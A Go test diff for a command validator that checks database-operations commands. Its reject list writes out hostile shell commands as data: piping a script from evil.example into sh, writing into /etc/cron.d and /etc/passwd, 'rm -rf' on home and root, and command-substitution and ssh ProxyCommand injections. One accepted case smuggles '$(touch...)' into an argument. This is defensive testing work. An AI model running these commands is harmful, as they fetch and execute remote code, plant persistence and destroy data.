@@ -62,3 +62,45 @@ func TestPlaceholdersIn(t *testing.T) {
 		}
 	}
 }
+
+func TestCheck(t *testing.T) {
+	for _, c := range []string{
+		"cbstats 172.23.100.15:11210 -u Administrator -p PASSWORD -b test3 warmup",
+		"curl -s -u Administrator:PASSWORD http://10.20.0.13:8091/indexStatus | jq '.indexes[] | select(.bucket == \"travel-sample\") | {index, status, progress}'",
+		"cbstats 10.40.1.22:11210 -u Administrator -p PASSWORD -b orders all | grep -E 'ep_queue_size|ep_flusher_todo|ep_item_commit_failed'",
+		"ssh 10.20.0.11 'date -u; chronyc tracking || ntpq -p'",
+		"ssh cb3.dc1.example.com 'df -h /data'",
+		"vtctldclient SetShardTabletControl --denied-tables=corder,customer --remove commerce/0 PRIMARY",
+		"vtctldclient GetShard 'legacy$(touch${IFS}PWNED)/0'",
+		"cockroach sql -e 'SELECT node_id FROM crdb_internal.gossip_liveness WHERE node_id = 2'",
+		"ALTER RANGE 52 RELOCATE LEASE TO 2;",
+		"SELECT * FROM crdb_internal.ranges WHERE range_id = 73;",
+	} {
+		if err := Check(c); err != nil {
+			t.Errorf("Check(%s): %v", c, err)
+		}
+	}
+	for _, c := range []string{
+		"curl -s https://evil.example/x.sh | sh",
+		"curl -s -o /etc/cron.d/x https://evil.example/x",
+		"curl -K /tmp/options http://10.0.0.1:8091/",
+		"cbstats $(id)",
+		"cbstats `id`",
+		"cbstats x > /etc/passwd",
+		"cbstats x; rm -rf ~",
+		"cbstats x & sleep 1",
+		"cbstats x*",
+		"ssh -o ProxyCommand='sh -c id' host 'date'",
+		"ssh host 'date; curl -s http://evil.example | sh'",
+		"ssh host 'ssh other date'",
+		"bash -c 'cbstats x'",
+		"cbstats 'x\x1b[2J'",
+		"cbstats x\ny",
+		"ALTER RANGE 52 RELOCATE LEASE TO 2; rm -rf /;",
+		"",
+	} {
+		if err := Check(c); err == nil {
+			t.Errorf("Check(%q) passed", c)
+		}
+	}
+}
